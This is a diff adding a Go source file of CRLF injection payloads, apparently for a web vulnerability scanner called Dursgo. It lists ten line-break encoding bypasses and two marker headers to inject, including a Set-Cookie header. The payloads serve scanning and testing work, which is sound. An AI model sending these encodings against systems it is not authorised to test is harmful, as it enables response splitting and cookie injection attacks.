@@ -0,0 +1,36 @@
+package payloads
+
+// CRLFTest is a line-break encoding used to split the response header block. Prefix is
+// URL-encoded and is followed by one of CRLFInjectedHeaders.
+type CRLFTest struct {
+	Prefix    string
+	Technique string
+}
+
+// CRLFInjectedHeader is a header injected after the line break, URL-encoded as sent (Raw) and
+// as it appears in the response when the split succeeds (Name and Value).
+type CRLFInjectedHeader struct {
+	Raw   string
+	Name  string
+	Value string
+}
+
+// CRLFInjectedHeaders contains the headers CRLF payloads try to inject.
+var CRLFInjectedHeaders = []CRLFInjectedHeader{
+	{Raw: "Set-Cookie:%20dursgo=1", Name: "Set-Cookie", Value: "dursgo=1"},
+	{Raw: "X-Dursgo-Injected:%20crlf", Name: "X-Dursgo-Injected", Value: "crlf"},
+}
+
+// CRLFTests contains the line-break encodings Dursgo will try, plain ones first.
+var CRLFTests = []CRLFTest{
+	{Prefix: "%0d%0a", Technique: "URL-encoded CRLF"},
+	{Prefix: "dursgo%0d%0a", Technique: "URL-encoded CRLF after a value"},
+	{Prefix: "%0a", Technique: "URL-encoded LF only"},
+	{Prefix: "%0d", Technique: "URL-encoded CR only"},
+	{Prefix: "%23%0d%0a", Technique: "URL-encoded CRLF after a fragment"},
+	{Prefix: "%250d%250a", Technique: "double URL-encoded CRLF"},
+	{Prefix: "%25250d%25250a", Technique: "triple URL-encoded CRLF"},
+	{Prefix: "%E5%98%8A%E5%98%8D", Technique: "unicode CRLF (U+560A U+560D truncated to LF CR)"},
+	{Prefix: "%u000d%u000a", Technique: "%u-encoded CRLF"},
+	{Prefix: "%c4%8d%c4%8a", Technique: "unicode CRLF (U+010D U+010A truncated to CR LF)"},
+}